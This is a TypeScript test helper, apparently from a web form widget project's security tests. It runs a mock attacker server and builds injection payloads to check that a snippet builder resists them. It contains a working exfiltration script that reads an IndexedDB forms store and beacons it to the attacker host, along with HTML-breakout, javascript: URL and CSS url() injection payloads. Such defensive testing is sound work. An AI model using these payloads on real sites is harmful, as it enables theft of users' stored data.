import { elements } from '../../../widgets/manifest/elements.ts';
import { type PlainServer, startPlainServer } from '../site/plain-server.ts';

export interface HostileHost extends PlainServer {
  /** Every request: method and URL, with the data in the URL. */
  requests: string[];
}

/** Steals the drafts of the origin that runs it, whatever file is requested. */
function thief(origin: string): string {
  return `(async () => {
    const send = (what) => { new Image().src = '${origin}/loot?' + encodeURIComponent(what); };
    window.robbed = true;
    try { top.robbed = true; send('top ' + top.document.title); } catch {}
    send('runs at ' + window.origin);
    const opening = indexedDB.open('luxe');
    opening.onsuccess = () => {
      const reading = opening.result.transaction('forms').objectStore('forms').getAll();
      reading.onsuccess = () => send(JSON.stringify(reading.result));
    };
  })();`;
}

/** An attacker's server, from which any page may load anything. */
export async function startHostileHost(): Promise<HostileHost> {
  const requests: string[] = [];
  const server = await startPlainServer((request, response) => {
    requests.push(`${request.method} ${decodeURIComponent(request.url ?? '')}`);
    const isPage = request.headers['sec-fetch-dest'] === 'iframe';
    const script = thief(`http://${request.headers.host}`);
    response
      .writeHead(200, {
        'content-type': isPage ? 'text/html' : 'text/javascript',
        'access-control-allow-origin': '*',
        'access-control-allow-headers': '*',
        'cross-origin-resource-policy': 'cross-origin',
      })
      .end(isPage ? `<!doctype html><script>${script}</script>` : script);
  });
  return { ...server, requests };
}

const css = (url: string) => `red;background:url(${url})`;
type Attack = [name: string, query: Record<string, string>];

/** Parameters of the snippet builder's URL that try to make its page load from the attacker's server. */
export function attacks(origin: string): Attack[] {
  const everywhere = Object.fromEntries(
    elements.flatMap(({ attributes, cssProperties }) => [
      ...Object.keys(attributes).map((name) => [name, `${origin}/${name}`]),
      ...Object.keys(cssProperties).map((name) => [
        name.replace('--luxe-', ''),
        css(`${origin}/${name}`),
      ]),
    ]),
  );
  const markup = `"></luxe-quote-form><script src="${origin}/m.js"></script><img src="${origin}/i" onerror="robbed=1">`;
  const inMarkup = Object.fromEntries(Object.keys(everywhere).map((name) => [name, markup]));
  const code = `javascript:void(new Image().src='${origin}/j')`;
  const inCode = Object.fromEntries(Object.keys(everywhere).map((name) => [name, code]));
  return [
    [
      'addresses and style sheets everywhere',
      { script: `${origin}/`, page: `${origin}/page`, ...everywhere },
    ],
    ['markup everywhere', { script: markup, container: markup, page: markup, ...inMarkup }],
    [
      'javascript: addresses everywhere, url() in a length and a font',
      {
        script: code,
        page: code,
        ...inCode,
        radius: `url(${origin}/r)`,
        font: `url("${origin}/f")`,
      },
    ],
  ];
}
